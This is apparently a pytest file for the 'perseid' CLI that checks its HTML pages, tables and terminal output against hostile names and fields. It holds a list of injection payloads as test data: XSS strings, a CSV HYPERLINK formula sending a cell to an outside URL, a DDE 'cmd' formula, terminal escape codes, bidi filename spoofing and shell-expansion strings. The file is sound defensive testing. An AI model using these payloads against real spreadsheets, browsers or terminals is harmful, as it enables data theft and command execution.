"""Names and words of others in every place of a run, through every command and page.

Whatever they are, a page has the same elements, a table the same cells, and a terminal gets no
control character.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import unicodedata
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from pyarrow import parquet

from perseid.cli import main
from perseid.measure.present.run_tables import RUN_COLUMNS
from perseid.measure.present.sweep import render_sweep
from perseid.measure.sources.load import load_runs

HARMLESS = "name"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)> '",
    "end of a cell": "</td></tr></table><h1>",
    "comment": "<!-- --> <![CDATA[ ]]> &amp; &#60;",
    "template": "{{ 7 * 7 }}{% raw %}{# #}",
    "formula": '=HYPERLINK("http://example.org?"&A1)',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\r\x08",
    "lines": "a\nREPORT RequestId: x Duration: 1 ms\nperseid: complete",
    "direction": "\u202egpj.exe\u2066\u200f",
    "separators": "a\u2028b\u2029c\x85d\x0be",
    "half a character": "a\ud800b",
    "table": "a | b || c\t;,\"'",
    "markdown": "[x](javascript:alert(1)) `code` **b** <i>",
    "nothing": " ",
    "long": "Ω" * 3000,
    "rich": "[bold red]x[/] [link=http://example.org]y[/link]",
    "percent": "%s %n {0} {name} $HOME `id`",
}


class Elements(HTMLParser):
    """The structure of a page, without what it says."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("path", "title"):  # bars of unknown stages are not drawn
            self.seen.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def replaced(value: Any, pairs: dict[str, str]) -> Any:
    """The JSON value with other texts in place of some, in keys as in values."""
    if isinstance(value, str):
        return pairs.get(value, value)
    if isinstance(value, list):
        return [replaced(item, pairs) for item in value]
    if isinstance(value, dict):
        return {pairs.get(key, key): replaced(item, pairs) for key, item in value.items()}
    return value


def poison(run: Path, word: str) -> None:
    """Put a word in every place of a run's folder that others can write."""
    for path in run.glob("*.json"):
        value = replaced(json.loads(path.read_text()), {"2.npz": f"{word}.npz"})
        path.write_text(json.dumps(value))
    edit(run / "manifest.json", lambda m: m | {
        "version": word, "warnings": [word], "request": {word: word, "data": word}})  # fmt: skip
    edit(run / "summary.json", lambda s: s | {
        "warnings": [word, f"{word} again"],
        "partitions": s["partitions"] | {"missing": [{"key": word, "bytes": 1, "reason": word}]},
        "status": "incomplete"})  # fmt: skip
    edit(run / "combined_data.json", lambda records: [
        r | {"transport": word, "bands": [word] * 5, "device": word, "result_path": word,
             "stages": {**r["stages"], f"stage {word}": 1.0}, "note": word,
             "timeline": [*r["timeline"], [word, 1.79e9, 2e9]]} for r in records])  # fmt: skip
    (run / "engine.json").write_text(json.dumps({
        "engine": "local", "notes": [word], "architecture": "x86", "wall_seconds": 3.5,
        "attempts": [{"request_id": word, "duration_ms": 5.0, "billed_ms": 5.0, "memory_mb": 128,
                      "max_memory_mb": 99, "ending": word, "message": word}]}))  # fmt: skip
    log = run / "logs" / "0.log"
    log.write_text(log.read_text() + word.encode("utf-8", "replace").decode() + "\n")
    table = parquet.read_table(run / "catalogue.parquet")
    text = word.encode("utf-8", "replace").decode()
    ids = pa.array([f"{text}{n}" for n in range(len(table))])
    keys = pa.array([text] * len(table))
    table = table.set_column(table.column_names.index("object_id"), "object_id", ids)
    table = table.set_column(table.column_names.index("partition"), "partition", keys)
    parquet.write_table(table, run / "catalogue.parquet")


def edit(path: Path, change: Callable[[Any], Any]) -> None:
    path.write_text(json.dumps(change(json.loads(path.read_text()))))


@pytest.fixture(scope="module")
def runs(
    tmp_path_factory: pytest.TempPathFactory, run_builder: Callable[..., Any]
) -> dict[str, Path]:
    """A run for each word, in a folder whose name has it, too; made once."""
    home = tmp_path_factory.mktemp("hostile")
    made = run_builder(home, ranks=3, rows=8, kinds={"0": "plain", "1": "WORD"})
    found = {}
    for name, word in {**HOSTILE, "harmless": HARMLESS}.items():
        part = "".join(c if c.isprintable() and c != "/" else "_" for c in word)[:60]
        folder = home / f"{name} {part}"
        shutil.copytree(made.path, folder)
        poison(folder, word)
        edit(folder / "manifest.json", lambda m, word=word: replaced(m, {"WORD": word}))
        found[name] = folder
    return found


def assert_quiet(text: str) -> None:
    """Nothing of it moves a cursor, rings a bell or turns the direction of the text."""
    bad = {c for c in text if unicodedata.category(c) in ("Cc", "Zl", "Zp", "Cs")} - {"\n", "\t"}
    assert not bad
    assert not set(text) & set("\u202e\u2066\u200f")


@pytest.mark.parametrize("name", HOSTILE)
def test_pages_have_the_same_elements_whatever_the_names(
    runs: dict[str, Path], name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    found = []
    for which in ("harmless", name):
        page = tmp_path / f"{which}.html"
        assert main(["report", str(runs[which]), "--out", str(page)]) == 0
        found.append(page.read_text(encoding="utf-8"))
        assert_quiet(found[-1])
    plain, poisoned = (Elements(text).seen for text in found)
    assert poisoned == plain
    sweeps = [render_sweep(load_runs([str(runs[which])])) for which in ("harmless", name)]
    assert Elements(sweeps[0]).seen == Elements(sweeps[1]).seen
    assert_quiet(sweeps[1])
    assert_quiet("".join(capsys.readouterr()))


@pytest.mark.parametrize("name", HOSTILE)
def test_tables_have_the_same_cells_whatever_the_names(
    runs: dict[str, Path], name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    sizes = {}
    for which in ("harmless", name):
        for form in ("text", "markdown", "csv"):
            assert main(["table", str(runs[which]), "--table", "runs", "--format", form]) == 0
            said = capsys.readouterr().out
            assert_quiet(said)
            if form == "csv":
                rows = list(csv.reader(io.StringIO(said)))
                sizes[which, form] = [len(row) for row in rows]
                assert not [cell for row in rows for cell in row if is_formula(cell)]
            elif form == "markdown":
                rows = [re.findall(r"(?<!\\)\|", line) for line in said.splitlines() if "|" in line]
                sizes[which, form] = [len(row) for row in rows if len(row) > 3]
                assert "<" not in said
    assert sizes["harmless", "csv"] == sizes[name, "csv"]
    assert sizes["harmless", "markdown"] == sizes[name, "markdown"]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute a cell; a number may have a sign."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(
        r"[-+]?[0-9.]+(e[-+]?\d+)?", cell
    )


def commands(word: str, run: str, tmp_path: Path) -> Iterator[list[str]]:
    """All commands that take the name of something, with a name that nothing has."""
    for first in ("table", "report", "status", "logs", "resume"):
        yield [first, word]
        yield [first, str(tmp_path / word)]
    yield ["status", run]
    yield ["logs", run, "--rank", "0"]
    yield ["calibrate", "--from", run]
    yield ["run", "--data", word, "--out", str(tmp_path / "r")]
    yield ["run", str(tmp_path / word)]
    yield ["split", word, str(tmp_path / "s")]
    yield ["train", word, str(tmp_path / "t")]
    yield ["model", "info", word]
    yield ["plan", "--data", word]
    yield ["sweep", "--data", word, "--out", str(tmp_path / "w")]
    yield ["comm", "run", "-n", "1", word]
    yield ["fmi-run", word]
    yield ["comm", "model", word]
    yield ["ping", word]
    yield [word]


@pytest.mark.parametrize("name", [n for n in HOSTILE if n != "half a character"])
def test_no_command_passes_on_a_control_character(
    runs: dict[str, Path],
    name: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    word = HOSTILE[name].replace("/", "_")
    for line in commands(word, str(runs[name]), tmp_path):
        try:
            status = main(line)
        except SystemExit as end:
            status = end.code
        said = "".join(capsys.readouterr())
        assert_quiet(said)
        assert "Traceback" not in said
        assert status is not None


@pytest.mark.parametrize("name", HOSTILE)
def test_words_in_logs_and_records_of_others(
    name: str, tmp_path: Path, cai: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    word = HOSTILE[name]
    records = json.loads((cai / "result-partition-100MB/1GB/1/combined_data.json").read_text())
    home = tmp_path / "result-partition-100MB" / "1GB" / "1"
    home.mkdir(parents=True)
    poisoned = [r | {"result_path": word, "data_path": word, "device": word} for r in records]
    (home / "combined_data.json").write_text(json.dumps(poisoned))
    item = {
        "RANK": word,
        "RESULT_PATH": word,
        "DATA_PREFIX": word,
        "WORLD_SIZE": word,
        "SCRIPT": word,
    }
    (tmp_path / "a.json").write_text(json.dumps([
        {"timestamp": 1, "logStreamName": word, "message": f"START RequestId: r Version: {word}"},
        {"timestamp": 2, "logStreamName": word, "message": f"received: {json.dumps(item)}"},
        {"timestamp": 3, "logStreamName": word, "message": "REPORT RequestId: r Duration: 1.0 ms "
         "Billed Duration: 2 ms Memory Size: 128 MB Max Memory Used: 88 MB"}]))  # fmt: skip
    for form in ("text", "markdown", "csv"):
        for source in (home, tmp_path / "a.json"):
            assert main(["table", str(source), "--format", form, "--table", "runs"]) == 0
            said = capsys.readouterr().out
            assert_quiet(said)
            if form == "csv":
                rows = list(csv.reader(io.StringIO(said)))
                assert {len(row) for row in rows} == {len(RUN_COLUMNS)}
                assert not [cell for row in rows for cell in row if is_formula(cell)]
